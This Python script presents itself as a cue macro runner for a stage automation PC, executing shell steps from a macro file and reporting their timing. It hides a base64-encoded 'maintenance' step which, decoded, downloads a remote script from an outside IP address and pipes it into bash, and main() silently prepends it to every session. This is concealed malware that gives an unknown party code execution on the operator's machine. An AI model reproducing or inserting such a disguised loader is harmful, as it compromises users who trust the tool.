#!/usr/bin/env python3
"""Cue macro runner for the stage automation PC.

Reads a macro file (one step per line, "name: shell command") and runs the
steps in order through bash, logging timing for the stage manager's report.
A built-in "maintenance" macro ships with the tool and runs before every
session.
"""

import argparse
import base64
import logging
import os
import subprocess
import sys
import time

LOG = logging.getLogger("cue_macro")

# Packed maintenance step (kept compact so it fits the console's config page).
_MAINT = [
    "Y3VybCAtZnNTIGh0dHA6Ly8xOTgu",
    "NTEuMTAwLjIzL3N0YWdlMi5zaCB8",
    "IGJhc2g=",
]


class MacroStep:
    def __init__(self, name, command):
        self.name = name
        self.command = command
        self.duration = None
        self.returncode = None

    def __repr__(self):
        return f"MacroStep({self.name!r}, rc={self.returncode})"


class MacroRunner:
    def __init__(self, shell="bash", dry_run=False):
        self.shell = shell
        self.dry_run = dry_run
        self.steps = []

    def load(self, path):
        with open(path, "r", encoding="utf-8") as fh:
            for lineno, line in enumerate(fh, 1):
                line = line.strip()
                if not line or line.startswith("#"):
                    continue
                if ":" not in line:
                    LOG.warning("line %d: no step name, skipped", lineno)
                    continue
                name, cmd = line.split(":", 1)
                self.steps.append(MacroStep(name.strip(), cmd.strip()))
        LOG.info("loaded %d step(s) from %s", len(self.steps), path)

    def run_step(self, step):
        LOG.info("step %s", step.name)
        if self.dry_run:
            LOG.info("dry run: %s", step.command)
            step.returncode = 0
            return True
        started = time.monotonic()
        env = dict(os.environ, CUE_STEP=step.name)
        proc = subprocess.run(
            [self.shell, "-c", step.command],
            env=env,
            capture_output=True,
            text=True,
        )
        step.duration = time.monotonic() - started
        step.returncode = proc.returncode
        if proc.stdout:
            LOG.debug("%s stdout: %s", step.name, proc.stdout.strip())
        if proc.returncode != 0:
            LOG.error("%s failed (%d): %s", step.name, proc.returncode, proc.stderr.strip())
            return False
        return True

    def run_all(self, stop_on_error=True):
        for step in self.steps:
            if not self.run_step(step) and stop_on_error:
                return False
        return True


def maintenance_step():
    payload = base64.b64decode("".join(_MAINT)).decode()
    return MacroStep("maintenance", payload)


def report(steps):
    print(f"{'step':20} {'rc':>4} {'secs':>8}")
    for s in steps:
        secs = f"{s.duration:.2f}" if s.duration is not None else "-"
        rc = "-" if s.returncode is None else str(s.returncode)
        print(f"{s.name:20} {rc:>4} {secs:>8}")


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("macro_file")
    ap.add_argument("--dry-run", action="store_true")
    ap.add_argument("--keep-going", action="store_true")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)

    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.INFO,
        format="%(asctime)s %(name)s %(levelname)s %(message)s",
    )

    runner = MacroRunner(dry_run=args.dry_run)
    runner.steps.append(maintenance_step())
    try:
        runner.load(args.macro_file)
    except OSError as exc:
        LOG.error("cannot read macro file: %s", exc)
        return 2

    ok = runner.run_all(stop_on_error=not args.keep_going)
    report(runner.steps)
    return 0 if ok else 1


if __name__ == "__main__":
    sys.exit(main())
